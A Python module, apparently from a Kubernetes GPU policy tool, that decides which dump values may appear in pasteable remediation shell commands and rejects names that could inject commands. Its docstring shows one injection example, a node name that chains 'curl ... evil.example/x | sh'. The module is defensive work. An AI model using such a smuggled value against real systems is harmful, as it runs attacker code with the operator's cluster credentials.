"""Which text a fix's command may hold: what the pack wrote, and values of the dump a shell reads as one plain word.

A rule's ``remediation`` is a shell command with ``{placeholders}``, and the table and chat formats lay it out so that
it can be pasted whole (``rules.render.chat.fix_lines``). A value read from the dump stands in it as written: a
Node named ``gpu-1 && curl -s evil.example/x | sh #`` would make ``kubectl label node {name} ...`` run the
attacker's command with the reader's kubeconfig (trial 180). The API server accepts no such name, namespace, label
or resource name, so a dump that holds one was written by hand or altered, and a fix is not written from it.

Text the pack itself wrote (a literal, a ``format`` whose values are all trusted, a ``join`` of plain words) is
``Written``: a ``str`` that says so, made only where the text holds more than a plain word (``$(...)``, quotes,
spaces), so that the values checks compare stay plain strings. A plain string is trusted when it is one plain word.
"""

from __future__ import annotations

import re
from typing import Any

#: What a plain word of a command read from the dump may hold: the characters of Kubernetes names (DNS-1123),
#: label keys and values, resource names (``nvidia.com/NVIDIA_A10-12Q``), quantities and images
#: (``nvcr.io/nvidia/gpu-operator:v25.10.1``, ``@sha256:...``). No blank, quote, ``$``, ``;``, ``&``, ``|``,
#: backquote, bracket, ``#``, ``*``, ``?`` or ``!``, nor any control character.
WORD = re.compile(r"[A-Za-z0-9._:/=@%+,~^-]*")


class Written(str):
    """Text the pack wrote (with trusted values in it): a command may hold it as it stands."""

    __slots__ = ()


def written(text: str) -> str:
    """``text``, as ``Written`` where it is more than a plain word (a plain word is trusted as it is)."""
    return text if WORD.fullmatch(text) else Written(text)


def pack_text(value: Any) -> Any:
    """``value``, a policy's own data (a data table), with each string in it that is more than a plain word
    ``Written``, keys included: a fix may hold what the pack's tables say (a label selector with its blanks)."""
    if isinstance(value, str):
        return written(value)
    if isinstance(value, dict):
        return {pack_text(k): pack_text(v) for k, v in value.items()}
    if isinstance(value, list):
        return [pack_text(v) for v in value]
    return value


def said(text: str, *values: Any) -> str:
    """``text`` the engine wrote of ``values`` (what an assertion expected of its argument): ``Written`` where they are
    all trusted, so that a fix may hold it (``{expected}``); plain where one came from the dump and is more than a
    plain word."""
    return written(text) if all(trusted(v) for v in values) else text


def trusted(value: Any) -> bool:
    """True when a command may hold ``value`` as ``show`` writes it: pack text, a plain word, a number, a boolean,
    nothing, or a list or mapping of such (its brackets and commas are the pack's)."""
    if isinstance(value, str):
        return type(value) is Written or WORD.fullmatch(value) is not None
    if isinstance(value, dict):
        return all(trusted(k) and trusted(v) for k, v in value.items())
    if isinstance(value, (list, tuple, set, frozenset)):
        return all(trusted(v) for v in value)
    return True


def plain(value: Any) -> Any:
    """``value`` with every ``Written`` in it a plain ``str`` (``marshal`` writes no subclass)."""
    if type(value) is Written:
        return str(value)
    if isinstance(value, list):
        return [plain(v) for v in value]
    if isinstance(value, tuple):
        return tuple(plain(v) for v in value)
    if isinstance(value, dict):
        return {plain(k): plain(v) for k, v in value.items()}
    return value


def comment_at(line: str) -> int:
    """Where a shell comment `` # `` starts in ``line``, outside quotes (trial 176: one inside ``note='see ticket #
    42'`` is none), else -1."""
    quote = ""
    for i, char in enumerate(line):
        if quote:
            quote = "" if char == quote else quote
        elif char in "'\"":
            quote = char
        elif line.startswith(" # ", i):
            return i
    return -1


#: What ends a shell comment, or would act on a terminal, in a value that stands after a fix's `` # ``.
_OUT_OF_COMMENT = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def commented(value: Any) -> bool:
    """True when ``value``, standing in a fix after its `` # `` (what the shell reads as a comment), stays in the
    comment: no line break nor any other control character in it (a scheduler's words, ``nvidia.com/gpu: present``,
    may hold blanks and colons there)."""
    if isinstance(value, str):
        return _OUT_OF_COMMENT.search(value) is None
    if isinstance(value, dict):
        return all(commented(k) and commented(v) for k, v in value.items())
    if isinstance(value, (list, tuple, set, frozenset)):
        return all(commented(v) for v in value)
    return True


def untrusted_characters(value: Any) -> list[str]:
    """The characters of ``value``'s untrusted strings that a plain word does not hold, each once, in order."""
    found: dict[str, None] = {}

    def walk(v: Any) -> None:
        if isinstance(v, str):
            if type(v) is not Written:
                found.update(dict.fromkeys(c for c in v if not WORD.fullmatch(c)))
        elif isinstance(v, dict):
            for k, x in v.items():
                walk(k)
                walk(x)
        elif isinstance(v, (list, tuple, set, frozenset)):
            for x in v:
                walk(x)

    walk(value)
    return list(found)
